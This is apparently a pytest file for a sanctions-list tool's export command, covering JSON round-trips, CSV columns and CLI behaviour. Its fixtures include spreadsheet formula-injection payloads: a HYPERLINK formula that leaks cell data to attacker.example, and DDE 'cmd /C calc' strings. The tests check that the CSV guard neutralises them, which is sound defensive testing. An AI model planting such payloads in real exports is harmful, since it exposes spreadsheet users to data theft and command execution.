"""`export`: FtM JSON lines that load back unchanged, a CSV that spreadsheets cannot turn into code."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import typer
from followthemoney import StatementEntity
from typer.testing import CliRunner

from interdictor.cli import app, main
from interdictor.cli.export import export
from interdictor.export import CSV_COLUMNS, csv_row, export_entities, guard_cell, open_output, select_entities
from interdictor.lists import read_list
from interdictor.store import Store

UPDATE_FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "lists" / "update"

HOSTILE = [
    {
        "id": "evil-1",
        "schema": "Company",
        "properties": {
            "name": ['=HYPERLINK("http://attacker.example/?leak="&A1, "Click for details")'],
            "alias": ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
            "address": ["Safe Street 1", "=1+1"],
            "country": ["ir"],
        },
    },
    {
        "id": "plain-1",
        "schema": "Person",
        "properties": {"name": ["Anna Plain"], "birthDate": ["1980-05-06"]},
    },
]


def _write_ftm(path: Path, entities: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(e) + "\n" for e in entities), encoding="utf-8")
    return path


def _load(store: Store, path: Path, list_name: str, published: str | None = None) -> int:
    day = date.fromisoformat(published) if published else None
    report = store.load(read_list(path, format="ftm-json", list_name=list_name, published=day))
    return report.version.version_id


def _by_id(store: Store, list_name: str | None = None) -> dict[str, tuple[str, dict[str, set[str]]]]:
    return {
        str(e.id): (e.schema.name, {p: set(v) for p, v in e.properties.items()})
        for e in store.iter_entities(list_name)
    }


def _cli() -> typer.Typer:
    """The root app with `export` registered, unless the lead has registered it already."""
    names = {c.name or (c.callback.__name__ if c.callback else None) for c in app.registered_commands}
    if "export" not in names:
        app.command("export")(export)
    return app


@pytest.fixture
def loaded(tmp_path: Path) -> Path:
    """A store holding two versions of one list and a list with hostile names."""
    db = tmp_path / "store.duckdb"
    with Store(db) as store:
        _load(store, UPDATE_FIXTURES / "entities.ftm.json", "demo", "2026-01-01")
        _load(store, UPDATE_FIXTURES / "entities_v2.ftm.json", "demo", "2026-02-01")
        _load(store, _write_ftm(tmp_path / "hostile.ftm.json", HOSTILE), "hostile")
    return db


def test_ftm_export_loads_back_into_the_same_entities(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.ftm.json"
    with Store(loaded, read_only=True) as store, open_output(out) as stream:
        written = export_entities(store.iter_entities("demo"), stream, "ftm")
        original = _by_id(store, "demo")
    assert written == 4 == len(original)
    with Store(tmp_path / "fresh.duckdb") as fresh:
        _load(fresh, out, "demo")
        assert _by_id(fresh, "demo") == original
        # exporting again gives the same lines, apart from when the statements were seen
        again = io.StringIO()
        export_entities(fresh.iter_entities("demo"), again, "ftm")

    def strip(text: str) -> list[dict[str, Any]]:
        rows = [json.loads(line) for line in text.splitlines()]
        return [{k: v for k, v in row.items() if k not in ("first_seen", "last_seen")} for row in rows]

    assert strip(again.getvalue()) == strip(out.read_text(encoding="utf-8"))


def test_csv_has_the_documented_columns_and_joined_values(loaded: Path) -> None:
    with Store(loaded, read_only=True) as store:
        out = io.StringIO()
        export_entities(store.iter_entities("demo"), out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == CSV_COLUMNS
    by_id = {row["id"]: row for row in rows}
    meridian = by_id["upd-meridian"]
    assert meridian["schema"] == "Company" and meridian["name"] == "Meridian Vacuum Systems LLC"
    assert meridian["aliases"] == "Meridian Vacuum"
    assert meridian["identifiers"] == "registrationNumber: DMCC-77120"
    assert meridian["countries"] == "ae" and meridian["lists"] == "demo"
    assert meridian["first_seen"].startswith("2026-01-01") and meridian["last_seen"].startswith("2026-02-01")
    assert by_id["upd-halvorsen"]["birth_date"] == "1968-11-23"
    assert by_id["upd-sea-lark"]["identifiers"] == "imoNumber: IMO9321483"
    assert by_id["upd-kestrel"]["first_seen"].startswith("2026-02-01")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5", "'-5"),  # no numeric columns: a leading minus is guarded like any other
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1dcmd", "'\uff1dcmd"),  # full-width equals sign
        ("Acme = Co", "Acme = Co"),
        ("", ""),
    ],
)
def test_guard_cell(value: str, expected: str) -> None:
    assert guard_cell(value) == expected


def test_csv_guards_every_cell_against_formula_injection(loaded: Path) -> None:
    with Store(loaded, read_only=True) as store:
        [evil] = [e for e in store.iter_entities("hostile") if e.id == "evil-1"]
    row = dict(zip(CSV_COLUMNS, csv_row(evil), strict=True))
    assert row["name"] == '\'=HYPERLINK("http://attacker.example/?leak="&A1, "Click for details")'
    # values are sorted, so a hostile one comes first in its cell here; only a cell's start counts
    assert row["aliases"] == "'+cmd|' /C calc'!A0; -2+3+cmd|' /C calc'!A0; @SUM(1+1)*cmd|' /C calc'!A0"
    assert row["addresses"] == "'=1+1; Safe Street 1"
    raw = dict(zip(CSV_COLUMNS, csv_row(evil, guard=False), strict=True))
    assert raw["name"].startswith("=HYPERLINK")


def test_cli_writes_csv_to_stdout_and_messages_to_stderr(loaded: Path) -> None:
    result = CliRunner().invoke(_cli(), ["--db", str(loaded), "export", "--format", "csv", "--output", "-"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 1 + 4 + 2  # header, demo's newest version, hostile
    names = {row[2] for row in rows[1:]}
    assert '\'=HYPERLINK("http://attacker.example/?leak="&A1, "Click for details")' in names
    assert "exported 6 entities" in result.stderr


def test_cli_selects_a_list_or_a_version_and_writes_a_file(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "out" / "demo.ftm.json"
    out.parent.mkdir()
    result = CliRunner().invoke(
        _cli(), ["--db", str(loaded), "export", "--list", "demo", "--version", "latest~1", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    ids = [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()]
    assert ids == ["upd-halvorsen", "upd-meridian", "upd-sea-lark"]
    assert sorted(p.name for p in out.parent.iterdir()) == ["demo.ftm.json"]  # no temporary file left
    result = CliRunner().invoke(_cli(), ["--db", str(loaded), "export", "--version", "1"])
    assert result.exit_code == 0 and len(result.stdout.splitlines()) == 3


def test_cli_errors_give_their_exit_codes(
    loaded: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _cli()
    with pytest.raises(SystemExit) as exit_info:
        main(["--db", str(loaded), "export", "--list", "nope"])
    assert exit_info.value.code == 4
    assert "no list 'nope' in the store (lists: demo, hostile)" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_info:
        main(["--db", str(loaded), "export", "--output", str(tmp_path / "missing" / "x.csv")])
    assert exit_info.value.code == 2


def test_export_streams_and_leaves_no_file_when_it_fails(loaded: Path, tmp_path: Path) -> None:
    """Each entity is written as it is read; a failure midway leaves no half-written file."""
    with Store(loaded, read_only=True) as store:
        entities = list(store.iter_entities("demo"))
    out = io.StringIO()

    def watched() -> Iterator[StatementEntity]:
        for index, entity in enumerate(entities):
            assert out.getvalue().count("\n") == index  # the previous entity is already out
            yield entity

    assert export_entities(watched(), out, "ftm") == 4

    def failing() -> Iterator[StatementEntity]:
        yield entities[0]
        raise RuntimeError("disk on fire")

    target = tmp_path / "partial.csv"
    with pytest.raises(RuntimeError), open_output(target) as stream:
        export_entities(failing(), stream, "csv")
    assert list(tmp_path.glob("partial*")) == [] and list(tmp_path.glob(".partial*")) == []


def test_selection_counts_for_the_progress_bar(loaded: Path) -> None:
    with Store(loaded, read_only=True) as store:
        assert select_entities(store).count == 6
        assert select_entities(store, "demo").count == 4
        one = select_entities(store, "demo", "2026-01-01")
        assert one.count == 3 and len(list(one.entities(store))) == 3
